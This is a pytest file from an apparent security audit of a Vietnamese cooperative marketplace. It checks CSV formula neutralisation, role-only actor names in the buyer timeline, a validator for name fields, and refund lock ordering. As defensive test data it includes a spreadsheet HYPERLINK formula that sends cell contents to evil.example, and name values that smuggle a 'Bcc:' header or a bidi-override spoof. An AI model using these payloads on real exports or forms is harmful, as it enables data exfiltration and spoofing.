"""Security audit, finding 6 (the smaller ones): formula cells in every CSV we write, roles not
names in the buyer's timeline, one single-line validator for every name field."""

import csv
import io

import pytest

from catalog.models import Product
from market.models import Cooperative, User
from market.shared.csvsafe import csv_cell
from orders.models import Order
from orders.services.transitions import order_transition
from tests.conftest import client_for
from tests.factories.catalog import ProductFactory
from tests.factories.market import MembershipFactory, UserFactory
from tests.factories.orders import place_order

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
    "=1+2@SUM(A1)",
    "+84 912",
    "@cmd",
    " =1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_text_is_neutralised(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Cà phê", "0912345678", 12, 1.5, True, "a=b"])
def test_other_cells_are_left_alone(value):
    assert csv_cell(value) == value


def test_order_csv_export_writes_formula_cells_as_text():
    owner = MembershipFactory(cooperative__verified=True).user
    coop = owner.memberships.get().cooperative
    buyer = UserFactory(email="=1+2@evil.example")
    order = place_order(buyer, ProductFactory(cooperative=coop), 1)
    Order.objects.filter(pk=order.pk).update(carrier='=HYPERLINK("http://x")', tracking_number="-1")

    response = client_for(owner).get("/api/v1/coop/orders/export.csv")

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert response.status_code == 200
    assert rows[1][5] == "'=1+2@evil.example"
    assert rows[1][-2:] == ['\'=HYPERLINK("http://x")', "'-1"]


def test_buyer_timeline_shows_roles_not_names():
    owner = MembershipFactory(
        cooperative__verified=True, user__full_name="Trần Văn Chủ", user__email="chu@htx.vn"
    ).user
    coop = owner.memberships.get().cooperative
    admin = UserFactory(platform_admin=True, full_name="Quản Trị", email="qt@htx.market")
    buyer = UserFactory()
    order = place_order(buyer, ProductFactory(cooperative=coop), 1)
    order_transition(actor=owner, order_id=order.pk, to=Order.Status.CONFIRMED)
    order_transition(actor=admin, order_id=order.pk, to=Order.Status.CANCELLED, reason="Hết hàng")

    body = client_for(buyer).get(f"/api/v1/orders/{order.code}/").json()

    assert [e["actor"] for e in body["timeline"]] == ["buyer", "cooperative", "platform"]
    text = str(body)
    for leak in ("Trần Văn Chủ", "chu@htx.vn", "Quản Trị", "qt@htx.market"):
        assert leak not in text


BAD_NAMES = {
    "newline": "HTX Sen\nBcc: victim@example.com",
    "carriage return": "HTX Sen\rX",
    "nul": "HTX\x00Sen",
    "zero-width only": "\u200b\u200c\u200d\ufeff",
    "bidi override": "HTX \u202emoc.live",
}


@pytest.mark.parametrize("bad", BAD_NAMES.values(), ids=BAD_NAMES.keys())
def test_cooperative_names_refuse_control_and_invisible_text(bad):
    owner = MembershipFactory(cooperative__verified=True).user
    coop = owner.memberships.get().cooperative
    before = (coop.trading_name, coop.representative)

    response = client_for(owner).patch(
        f"/api/v1/cooperatives/{coop.pk}/", {"trading_name": bad}, format="json"
    )

    assert response.status_code == 400
    assert "trading_name" in response.json()["fields"]
    coop.refresh_from_db()
    assert (coop.trading_name, coop.representative) == before


@pytest.mark.parametrize("bad", BAD_NAMES.values(), ids=BAD_NAMES.keys())
def test_person_product_and_recipient_names_use_the_same_check(bad):
    owner = MembershipFactory(cooperative__verified=True).user
    coop = owner.memberships.get().cooperative
    product = ProductFactory(cooperative=coop)
    user = UserFactory(full_name="Lan")

    me = client_for(user).patch("/api/v1/auth/me/", {"full_name": bad}, format="json")
    prod = client_for(owner).patch(
        f"/api/v1/cooperatives/{coop.pk}/products/{product.pk}/", {"name_vi": bad}, format="json"
    )

    assert me.status_code == 400
    assert "full_name" in me.json()["fields"]
    assert prod.status_code == 400
    assert "name_vi" in prod.json()["fields"]
    assert User.objects.get(pk=user.pk).full_name == "Lan"
    assert Product.objects.get(pk=product.pk).name_vi == product.name_vi
    assert Cooperative.objects.get(pk=coop.pk).legal_name == coop.legal_name


def test_a_vietnamese_name_with_diacritics_passes():
    owner = MembershipFactory(cooperative__verified=True).user
    coop = owner.memberships.get().cooperative

    response = client_for(owner).patch(
        f"/api/v1/cooperatives/{coop.pk}/",
        {"trading_name": "HTX Nông nghiệp Đồng Tâm – Lạng Sơn"},
        format="json",
    )

    assert response.status_code == 200
    assert response.json()["trading_name"] == "HTX Nông nghiệp Đồng Tâm – Lạng Sơn"


@pytest.mark.postgres  # SQLite has no row locks to compare
def test_refund_paths_lock_order_before_refund_in_the_same_order(actors):
    """The audit: refund_mark_paid_out locked order → refund, refund_settle refund → order (a
    deadlock when both ran for one refund). Both now lock through orders.locks in one order."""
    import re

    from django.db import connection, transaction
    from django.test.utils import CaptureQueriesContext

    from orders.models import Refund
    from orders.services.payments import payment_bank_transfer_confirm
    from orders.services.refunds import refund_mark_paid_out, refund_settle

    order = place_order(actors["buyer"], ProductFactory(cooperative=actors["coop"]), 1)
    payment_bank_transfer_confirm(actor=actors["staff"], order_id=order.pk)
    order_transition(actor=actors["buyer"], order_id=order.pk, to=Order.Status.CANCELLED)
    refund = Refund.objects.get(order=order)

    def locked_tables(call) -> list[str]:
        with CaptureQueriesContext(connection) as ctx:
            call()
        return [
            re.search(r'FROM "(\w+)"', q["sql"]).group(1)
            for q in ctx.captured_queries
            if "FOR UPDATE" in q["sql"]
        ]

    class Rollback(Exception):
        pass

    def settle_then_roll_back():
        try:
            with transaction.atomic():
                refund_settle(refund_id=refund.pk, provider_id="re_test")
                raise Rollback
        except Rollback:
            pass

    settle = locked_tables(settle_then_roll_back)
    paid_out = locked_tables(
        lambda: refund_mark_paid_out(actor=actors["admin"], refund_id=refund.pk)
    )

    assert settle == paid_out
    assert settle.index("orders_order") < settle.index("orders_refund")
